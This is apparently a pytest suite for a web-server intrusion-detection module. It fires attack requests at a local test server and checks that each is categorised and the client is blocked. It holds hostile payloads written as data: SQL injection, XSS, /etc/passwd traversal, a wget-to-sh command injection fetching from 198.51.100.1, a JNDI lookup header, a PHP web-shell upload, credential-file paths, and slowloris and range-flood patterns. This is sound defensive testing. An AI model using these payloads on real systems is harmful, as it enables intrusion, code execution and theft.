"""The eight kinds of incident of the operators' guide, sent to a server with the shipped rules: each gets its category, and blocks its client
at the limit."""
import pytest

from harness.client import WORDS

LIMIT = 12
CATEGORIES = ("unauthorized_access vuln_scan sql_injection path_traversal xss code_injection resource_exhaustion auth_failure malware_upload "
              "info_leak bad_method bot_proxy bad_request").split()

PASSWORD = object()  # another one each time
BROWSER = {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0"}
PROBES = ["/wp-login.php", "/phpmyadmin/", "/admin/config.php", "/xmlrpc.php", "/cgi-bin/test.cgi", "/manager/html", "/solr/admin/",
          "/boaform/admin/formLogin", "/HNAP1", "/owa/auth/logon.aspx", "/actuator/health", "/struts2/index.action", "/pma/",
          "/mysql/index.php", "/wp-content/plugins/hellopress/wp_filemanager.php", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
          "/jenkins/login", "/ecp/Current/exporttool/", "/cgi-bin/luci", "/setup.cgi", "/joomla/administrator/", "/invoker/JMXInvokerServlet"]
LEAKS = ["/.env", "/.git/config", "/backup.sql", "/wp-config.php.bak", "/.aws/credentials", "/.svn/entries", "/.ssh/id_rsa", "/db.sql"]


def send(client, method, path, headers=None, body=b""):
    """One request. Its status, 0 when the server closed."""
    return client.request(method, path, {**BROWSER, **(headers or {})}, body).status


# Kind, category, and what is sent in turn: (method, path, headers, body) with {n} for a number and {word} for a word of its own each time.
KINDS = [
    ("unauthorised access", "unauthorized_access", [("GET", "/denied/{word}.html", None, b"")]),
    ("vulnerability scan", "vuln_scan", [("GET", path, None, b"") for path in PROBES]),
    ("SQL injection", "sql_injection", [
        ("GET", "/page.html?id=1%27%20UNION%20SELECT%20user,{word}%20FROM%20users--%20-", None, b""),
        ("GET", "/page.html?id=1%27%20OR%20%27{n}%27%3D%27{n}", None, b"")]),
    ("cross-site scripting", "xss", [("GET", "/page.html?q=%3Cscript%3Ealert(document.{word})%3C/script%3E", None, b"")]),
    ("path traversal", "path_traversal", [("GET", "/page.html?file={word}/../../../../../etc/passwd", None, b""),
                                          ("GET", "/%2e%2e/%2e%2e/%2e%2e/etc/{word}", None, b"")]),
    ("code injection", "code_injection", [("GET", "/page.html?cmd=;wget%20http://198.51.100.1/{word}.sh%20-O-|sh", None, b""),
                                          ("GET", "/page.html", {"X-Api-Version": "${jndi:ldap://198.51.100.1/a}"}, b"")]),
    ("brute force", "auth_failure", [("GET", "/private/page.html", PASSWORD, b"")]),
    ("malware upload", "malware_upload", [("PUT", "/uploads/{word}.php", None, b"<?php system($_GET['c']); ?>"),
                                          ("POST", "/c99.php?cmd={word}", None, b"x=1")]),
    ("leaked configuration", "info_leak", [("GET", path, None, b"") for path in LEAKS]),
    ("illegal method", "bad_method", [("FOO", "/{word}.html", None, b""), ("TRACE", "/{word}", None, b"")]),
    ("proxies and bots", "bot_proxy", [("GET", "http://www.example.net/{word}", {"Host": "www.example.net"}, b""),
                                       ("CONNECT", "{word}.example.net:443", {"Host": "www.example.net:443"}, b"")]),
]

# Which targets are new is told by a hash of few bits (model/known_targets.h): some more than the limit may be needed.
MOST = 2 * LIMIT + 6

ANNOUNCED = r"AH01630|AH00128|AH00130|AH01617|AH00135|AH10244|AH00026|AH01276|AH01264|AH01265"


class WithShippedRules:
    extra = ""

    @classmethod
    def configure(cls, config):
        config.load("reqtimeout")
        for path in LEAKS[::2]:  # some are really there, which is worse and leaves no entry
            config.file("htdocs" + path, "secret\n")
        config.log_level = "warn core:info http:info reqtimeout:info"
        limits = "\n".join(f"ErrWatchLimit {category} {LIMIT}/10m" for category in CATEGORIES)
        config.errwatch(f"""
            Include ${{CONF}}/rules/*.conf
            ErrWatchInspect all
            TraceEnable Off
            {limits}
            {cls.extra}
        """, rules="")


@pytest.mark.all_mpms
class TestKinds(WithShippedRules):
    @pytest.mark.parametrize("kind, category, requests", KINDS, ids=[kind for kind, _, _ in KINDS])
    def test_kind(self, server, client, log, kind, category, requests):
        log.allow(text=ANNOUNCED)
        log.expect_blocked(client)
        before = server.status.category(category)
        sent = 0
        while not server.status.blocked(client.address):
            method, path, headers, body = requests[sent % len(requests)]
            if headers is PASSWORD:
                client.log_in(password=WORDS[sent])
            else:
                send(client, method, path.format(n=sent, word=WORDS[sent]), headers, body)
            sent += 1
            assert sent <= MOST, f"{server.status.client(client.address)}"
        assert send(client, "GET", "/page.html") == 403
        assert server.status.category(category) >= before + 1
        incident = server.status.incidents(client=client.address, kind="block")[0]
        assert category in (incident["limit"], incident["category"])
        assert incident["rule"] > 0 and incident["rule_name"]

    # Brute force: eight wrong passwords are not an accident, however they are spread over connections and user names.
    def test_brute_force_over_many_users(self, client, log):
        log.expect("AH01618")
        log.expect_blocked(client)
        statuses = [client.log_in(user=f"user{i}").status for i in range(MOST)]
        assert 403 in statuses

    # A visitor who does nothing wrong, and what browsers ask for by themselves.
    def test_ordinary_visitor(self, server, client, log):
        log.allow("AH00128")
        for _ in range(10):
            for path in ("/", "/page.html", "/page.html?q=select+a+hat+from+the+union+shop", "/page.html?ref=newsletter&utm_source=mail"):
                assert send(client, "GET", path) == 200
            for path in ("/favicon.ico", "/robots.txt", "/apple-touch-icon.png", "/.well-known/security.txt"):
                assert send(client, "GET", path) == 404
        row = server.status.client(client.address)
        assert row is None or not row["blocked"]


class TestDenialOfService(WithShippedRules):
    """Slow requests hold workers; the entry about them names the connection only."""

    @classmethod
    def configure(cls, config):
        super().configure(config)
        config.add("RequestReadTimeout header=1 body=1")
        config.known_entries = "AH01382"  # of a connection that an earlier test left, on a busy machine

    def test_slowloris(self, server, client, log):
        log.expect("AH01382")
        log.expect_blocked(client)
        connections = [client.connect() for _ in range(LIMIT)]
        try:
            for connection in connections:
                connection.send(b"GET / HTTP/1.1\r\nHost: localhost\r\nX-a: ")
            server.status.wait_blocked(client.address, 15)
        finally:
            for connection in connections:
                connection.close()
        assert client.get("/page.html").status == 403
        assert server.status.category("resource_exhaustion") >= 1

    # Many ranges of one page cost the server much and the client nothing.
    def test_range_flood(self, server, client, log):
        log.allow(text=ANNOUNCED)
        log.expect_blocked(client)
        ranges = {"Range": "bytes=" + ",".join(f"0-{n}" for n in range(200))}
        for _ in range(LIMIT + 1):
            send(client, "GET", "/page.html", ranges)
        server.status.wait_blocked(client.address)
        assert client.get("/page.html").status == 403
        assert server.status.category("resource_exhaustion") >= 1
